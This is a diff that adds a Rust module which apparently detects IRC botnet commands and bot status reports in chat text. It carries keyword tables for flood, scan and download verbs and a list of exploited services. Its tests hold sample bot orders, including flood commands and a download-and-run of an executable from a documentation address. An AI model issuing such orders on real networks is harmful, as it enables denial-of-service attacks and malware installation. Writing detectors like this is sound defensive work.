@@ -1,0 +1,428 @@
+//! The dialect of bots: orders, and the reports that answer them.
+//!
+//! An order is `MARK VERB ARGUMENT*`: a mark of punctuation (or Kaiten's `!mask VERB`), a verb of a table, and
+//! arguments whose types fit the verb. It is told from talk by the arguments: "!udp" alone is a word, "!udp
+//! 192.0.2.1 1000 64" is an order. Verbs and shapes as the literature and public rule sets name them (SDBot, Rbot,
+//! Agobot, Kaiten, pBot, Muhstik); the grammar is our own.
+
+use std::net::{IpAddr, Ipv4Addr};
+
+use crate::text::{holds, words};
+
+/// What is ordered.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub(crate) enum Verb {
+    Scan,
+    Flood,
+    Fetch,
+    Run,
+    Channel,
+    Login,
+    Leave,
+    Report,
+    Relay,
+    Listen,
+    Wait,
+}
+
+/// An order.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub(crate) struct Order<'t> {
+    pub(crate) kind: Verb,
+    /// The verb as written.
+    pub(crate) verb: &'t [u8],
+    /// So many arguments are of the types that the verb asks for. None: it may be an order, and may be a word.
+    pub(crate) fits: u32,
+    /// It is quoted, as from a log.
+    pub(crate) quoted: bool,
+    text: &'t [u8],
+}
+
+/// Reads an order.
+pub(crate) fn order(text: &[u8]) -> Option<Order<'_>> {
+    let (text, quoted) = unquoted(text);
+    let mut rest = words(text);
+    let first = rest.next()?;
+    let marks = first.iter().take_while(|byte| MARKS.contains(byte)).count().min(2);
+    let (mark, verb) = first.split_at(marks);
+    let (kind, verb) = match kind(verb) {
+        Some(kind) if marks > 0 || is_plain(verb) => (kind, verb),
+        // Kaiten: "!* UDP ...", "!nick KILL".
+        None if mark.first() == Some(&b'!') => {
+            let verb = rest.next().filter(|verb| verb.iter().all(u8::is_ascii_uppercase))?;
+            (self::kind(verb)?, verb)
+        }
+        _ => return None,
+    };
+    let arguments: Vec<&[u8]> = rest.take(16).collect();
+    Some(Order { kind, verb, fits: fits(kind, &arguments), quoted, text })
+}
+
+impl<'t> Order<'t> {
+    /// The order for a person: what might be a password is hidden.
+    pub(crate) fn shown(&self) -> String {
+        let text = self.text;
+        match self.kind {
+            Verb::Login => format!("{} <hidden>", crate::text::shown(words(text).next().unwrap_or_default())),
+            _ => crate::text::shown(text).to_string(),
+        }
+    }
+
+    /// The addresses it names, whole ones.
+    pub(crate) fn addresses(&self) -> impl Iterator<Item = IpAddr> + use<'t> {
+        words(self.text).skip(1).filter_map(|word| address(word.split(|byte| *byte == b':').next().unwrap_or(word)))
+    }
+}
+
+/// Is it a bot's report: "[SCAN]: ...", "Password accepted", "Packeting 192.0.2.1"?
+pub(crate) fn is_report(text: &[u8]) -> bool {
+    let tag =
+        text.strip_prefix(b"[").and_then(|rest| rest.split_at_checked(rest.iter().position(|byte| *byte == b']')?));
+    let tagged = tag.is_some_and(|(tag, rest)| {
+        let letters = tag.iter().filter(|byte| byte.is_ascii_uppercase()).count();
+        (3..=16).contains(&tag.len()) && letters * 4 >= tag.len() * 3 && rest.starts_with(b"]:")
+    });
+    tagged || REPORTS.iter().any(|report| holds(text, report))
+}
+
+/// A URL's host and what follows it.
+pub(crate) fn url(word: &[u8]) -> Option<(&[u8], &[u8])> {
+    let rest = SCHEMES.iter().find_map(|scheme| {
+        let (head, rest) = word.split_at_checked(scheme.len())?;
+        head.eq_ignore_ascii_case(scheme).then_some(rest)
+    })?;
+    let end = rest.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#')).unwrap_or(rest.len());
+    let (host, path) = rest.split_at(end);
+    let host = host.rsplit(|byte| *byte == b'@').next().unwrap_or(host);
+    let host = host.split(|byte| *byte == b':').next().unwrap_or(host);
+    (!host.is_empty()).then_some((host, path))
+}
+
+/// A word that is an address.
+pub(crate) fn address(word: &[u8]) -> Option<IpAddr> {
+    std::str::from_utf8(word).ok()?.parse().ok()
+}
+
+fn kind(verb: &[u8]) -> Option<Verb> {
+    let lower = verb.to_ascii_lowercase();
+    let exact = |word: &[u8]| VERBS.iter().find(|(_, words)| words.contains(&word)).map(|(kind, _)| *kind);
+    if lower.is_empty() || lower.len() > 24 {
+        return None;
+    }
+    // Agobot's "ddos.synflood": the last part that says something.
+    let parts = || lower.split(|byte| *byte == b'.').rev().find_map(exact);
+    let stem = || STEMS.iter().find(|(stem, _)| holds(&lower, stem)).map(|(_, kind)| *kind);
+    exact(&lower).or_else(parts).or_else(stem)
+}
+
+fn is_plain(verb: &[u8]) -> bool {
+    let lower = verb.to_ascii_lowercase();
+    let space = lower.split(|byte| *byte == b'.').next().unwrap_or_default();
+    PLAIN.contains(&&*lower) || lower.contains(&b'.') && SPACES.contains(&space)
+}
+
+fn fits(kind: Verb, arguments: &[&[u8]]) -> u32 {
+    let count = |is: fn(&[u8]) -> bool| arguments.iter().filter(|word| is(word)).count() as u32;
+    let numbers = count(is_number);
+    match kind {
+        Verb::Scan => {
+            count(is_target)
+                + count(is_weakness)
+                + u32::from(numbers >= 2)
+                + u32::from(numbers >= 3)
+                + count(is_flag).min(1)
+        }
+        Verb::Flood | Verb::Relay => {
+            let targets = count(is_target);
+            targets + if targets > 0 { numbers.min(2) } else { u32::from(numbers >= 2) }
+        }
+        Verb::Fetch => {
+            let links = count(|word| url(word).is_some());
+            2 * links.min(1) + u32::from(links > 0 && arguments.len() > 1)
+        }
+        Verb::Run => count(is_path).min(2),
+        Verb::Channel => count(|word| matches!(word.first(), Some(b'#' | b'&')) && word.len() > 1).min(1),
+        Verb::Login => u32::from((1..=2).contains(&arguments.len())),
+        Verb::Wait => u32::from(numbers == 1 && arguments.len() == 1),
+        Verb::Listen => numbers.min(1),
+        Verb::Leave | Verb::Report => 0,
+    }
+}
+
+// A line of a log in a chat: "[12:04] <h3rd3r> .advscan ...", "<x> ...".
+fn unquoted(text: &[u8]) -> (&[u8], bool) {
+    let text = text.trim_ascii();
+    let clock = text.first() == Some(&b'[') && text.get(1).is_some_and(u8::is_ascii_digit)
+        || text.first().is_some_and(u8::is_ascii_digit);
+    let said = text.iter().position(|byte| *byte == b'>').filter(|at| *at < 48);
+    match said {
+        Some(at) if text.first() == Some(&b'<') || clock && text[..at].contains(&b'<') => {
+            (text[at + 1..].trim_ascii(), true)
+        }
+        _ => (text, false),
+    }
+}
+
+fn is_number(word: &[u8]) -> bool {
+    (1..=9).contains(&word.len()) && word.iter().all(u8::is_ascii_digit)
+}
+
+fn is_flag(word: &[u8]) -> bool {
+    word.len() == 2 && word[0] == b'-' && word[1].is_ascii_alphabetic()
+}
+
+// An address, a network, a mask like 10.30.x.x, host:port.
+fn is_target(word: &[u8]) -> bool {
+    let (host, port) = match word.iter().position(|byte| *byte == b':') {
+        Some(at) => (&word[..at], Some(&word[at + 1..])),
+        None => (word, None),
+    };
+    let network = word.split(|byte| *byte == b'/').next().unwrap_or(word);
+    let parse = |word: &[u8]| std::str::from_utf8(word).is_ok_and(|word| word.parse::<Ipv4Addr>().is_ok());
+    let quads: Vec<&[u8]> = word.split(|byte| *byte == b'.').collect();
+    let mask = quads.len() == 4
+        && quads.iter().any(|quad| matches!(*quad, b"x" | b"X" | b"*"))
+        && quads.iter().all(|quad| is_number(quad) || matches!(*quad, b"x" | b"X" | b"*"));
+    let named = port.is_some_and(is_number) && host.contains(&b'.') && host.iter().all(|byte| is_host(*byte));
+    parse(host) || parse(network) || mask || named
+}
+
+const fn is_host(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-')
+}
+
+fn is_weakness(word: &[u8]) -> bool {
+    WEAKNESSES.iter().any(|name| word.to_ascii_lowercase().starts_with(name))
+}
+
+fn is_path(word: &[u8]) -> bool {
+    let shell = matches!(word, b"|" | b"&&" | b";") || word.ends_with(b";");
+    let path = word.len() > 2 && (word[0] == b'/' || word.starts_with(b"./") || word[1..].starts_with(b":\\"));
+    shell || path || url(word).is_some() || PROGRAMS.contains(&word)
+}
+
+const MARKS: &[u8] = b".!@~$%^&*+-?#`";
+// Verbs that need no mark: nobody says them for anything else.
+const PLAIN: &[&[u8]] =
+    &[b"advscan", b"ntscan", b"ipscan", b"scanall", b"synflood", b"udpflood", b"tcpflood", b"httpflood"];
+// Agobot's families of verbs.
+const SPACES: &[&[u8]] = &[b"bot", b"ddos", b"scan", b"http", b"cvar", b"spam", b"sniffer", b"redirect"];
+const STEMS: &[(&[u8], Verb)] = &[
+    (b"flood", Verb::Flood),
+    (b"ddos", Verb::Flood),
+    (b"scan", Verb::Scan),
+    (b"exploit", Verb::Scan),
+    (b"spread", Verb::Scan),
+];
+const VERBS: &[(Verb, &[&[u8]])] = &[
+    (
+        Verb::Scan,
+        &[b"scan", b"advscan", b"asc", b"scanall", b"sa", b"ntscan", b"ipscan", b"pscan", b"pan", b"spread", b"root"],
+    ),
+    (
+        Verb::Flood,
+        &[
+            b"udp",
+            b"tcp",
+            b"syn",
+            b"icmp",
+            b"ack",
+            b"std",
+            b"tsunami",
+            b"packet",
+            b"ddos",
+            b"targa3",
+            b"phatwonk",
+            b"phatsyn",
+            b"phaticmp",
+            b"unknown",
+            b"hold",
+            b"cnc",
+            b"junk",
+            b"clone",
+            b"clones",
+        ],
+    ),
+    (
+        Verb::Fetch,
+        &[
+            b"download",
+            b"dl",
+            b"wget",
+            b"get",
+            b"update",
+            b"upd",
+            b"http",
+            b"visit",
+            b"click",
+            b"install",
+            b"egg",
+            b"curl",
+        ],
+    ),
+    (
+        Verb::Run,
+        &[b"exec", b"execute", b"sh", b"cmd", b"shell", b"run", b"raw", b"c_raw", b"open", b"php", b"system", b"find"],
+    ),
+    (Verb::Channel, &[b"join", b"j", b"part", b"cycle", b"c_join", b"c_part"]),
+    (Verb::Login, &[b"login", b"l", b"auth", b"user"]),
+    (
+        Verb::Leave,
+        &[
+            b"die",
+            b"kill",
+            b"killall",
+            b"remove",
+            b"uninstall",
+            b"bye",
+            b"logout",
+            b"quit",
+            b"disconnect",
+            b"reconnect",
+        ],
+    ),
+    (
+        Verb::Report,
+        &[
+            b"version",
+            b"ver",
+            b"status",
+            b"uptime",
+            b"longuptime",
+            b"sysinfo",
+            b"si",
+            b"netinfo",
+            b"ni",
+            b"driveinfo",
+            b"di",
+            b"id",
+            b"uname",
+            b"threads",
+            b"info",
+            b"speed",
+            b"highspeed",
+            b"scanstats",
+            b"scanstop",
+            b"stop",
+            b"stopscan",
+            b"about",
+            b"getcdkey",
+            b"rndnick",
+            b"flushdns",
+            b"secure",
+            b"unsecure",
+            b"pstore",
+            b"get_os_version",
+        ],
+    ),
+    (Verb::Relay, &[b"proxy", b"socks", b"socks4", b"socks5", b"bnc", b"redirect", b"back", b"conback"]),
+    (Verb::Listen, &[b"sniff", b"sniffer", b"keylog", b"httpd", b"tftp", b"rlogind"]),
+    (Verb::Wait, &[b"sleep", b"wait", b"delay"]),
+];
+const WEAKNESSES: &[&[u8]] = &[
+    b"lsass", b"dcom", b"asn1", b"netbios", b"ntpass", b"webdav", b"mssql", b"upnp", b"wkssvc", b"pnp", b"optix",
+    b"sasser", b"wins", b"netapi", b"vnc", b"telnet", b"ssh", b"ms0", b"ms1",
+];
+const PROGRAMS: &[&[u8]] = &[
+    b"uname",
+    b"id",
+    b"ls",
+    b"wget",
+    b"curl",
+    b"cd",
+    b"rm",
+    b"cat",
+    b"ps",
+    b"kill",
+    b"chmod",
+    b"perl",
+    b"python",
+    b"bash",
+    b"nohup",
+    b"whoami",
+    b"cmd.exe",
+    b"net",
+    b"reg",
+    b"powershell",
+];
+const REPORTS: &[&[u8]] = &[
+    b"password accepted",
+    b"failed pass auth",
+    b"random port scan",
+    b"exploiting ip",
+    b"flooding:",
+    b"scan stopped",
+    b"thread(s) stopped",
+    b"packeting ",
+    b"bot uptime",
+    b"file transfer complete",
+    b"packets to:",
+    b"attack finished",
+    b"uid=0(",
+];
+const SCHEMES: &[&[u8]] = &[b"http://", b"https://", b"ftp://", b"tftp://"];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn fitting(text: &str) -> u32 {
+        order(text.as_bytes()).map_or(0, |order| order.fits)
+    }
+
+    #[test]
+    fn six_dialects_are_understood() {
+        for text in [
+            ".advscan lsass 40 5 0 -b -r -s",
+            "!scan 10.30.x.x 445",
+            ".ddos.syn 203.0.113.200 80 30",
+            "ddos.synflood 203.0.113.200 30 80",
+            ".download http://198.51.100.140/upd.exe c:\\upd.exe 1",
+            "!* UDP 203.0.113.200 80 60",
+            "!udp 203.0.113.200 1000 64 10",
+            "@udpflood 203.0.113.9:53 60",
+            ".exec uname -a",
+            ".login r00tb0t",
+            "!join #new",
+        ] {
+            assert!(fitting(text) >= 1, "{text}");
+        }
+    }
+
+    #[test]
+    fn talk_is_no_order() {
+        for text in [
+            "!weather Oslo",
+            "!seen bob",
+            "how do i get http://example.com/x.exe",
+            "...",
+            "-> see you at 10",
+            "scan the picture please",
+            "deb http://ftp.example.com/debian stable main",
+            "!list",
+            "udp is not tcp 10.0.0.1",
+            ".oO(hm)",
+            "kill the process 1234",
+            "+1 for udp",
+        ] {
+            assert_eq!(fitting(text), 0, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_quotation_is_one() {
+        assert!(order(b"[12:04] <h3rd3r> .advscan lsass 40 5 0").is_some_and(|order| order.quoted && order.fits > 1));
+        assert!(order(b".advscan lsass 40 5 0").is_some_and(|order| !order.quoted));
+    }
+
+    #[test]
+    fn a_password_is_not_told() {
+        assert_eq!(order(b".login sn0wc4t").map(|order| order.shown()).as_deref(), Some(".login <hidden>"));
+    }
+
+    #[test]
+    fn reports_are_told_from_talk() {
+        assert!(is_report(b"[SCAN]: Random Port Scan started") && is_report(b"[DDoS]: Flooding"));
+        assert!(!is_report(b"carol: weather for Oslo: 12C") && !is_report(b"[1]: foo") && !is_report(b"[ok] fine"));
+    }
+}
